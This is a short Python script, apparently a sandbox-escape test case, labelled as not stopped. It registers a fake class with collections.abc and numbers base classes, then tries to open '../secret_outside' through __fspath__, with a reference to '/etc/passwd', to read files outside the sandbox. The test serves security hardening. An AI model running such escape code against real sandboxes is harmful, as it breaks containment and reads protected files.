# attack: registers guest classes as virtual subclasses of abstract classes that trusted code checks
# stopped by: nothing
import collections.abc
import numbers
import pathlib

class Fake:
    def __fspath__(self):
        return "../secret_outside"
    def __index__(self):
        return 0
    def __iter__(self):
        return iter("/etc/passwd")

for base in (collections.abc.Mapping, collections.abc.Sequence, numbers.Number):
    base.register(Fake)
try:
    data = open(Fake()).read()
    print("ESCAPED", data[:20])
except (OSError, TypeError, ValueError):
    pass
try:
    print("ESCAPED", pathlib.Path(Fake()).read_text()[:20])
except (OSError, TypeError, ValueError):
    pass
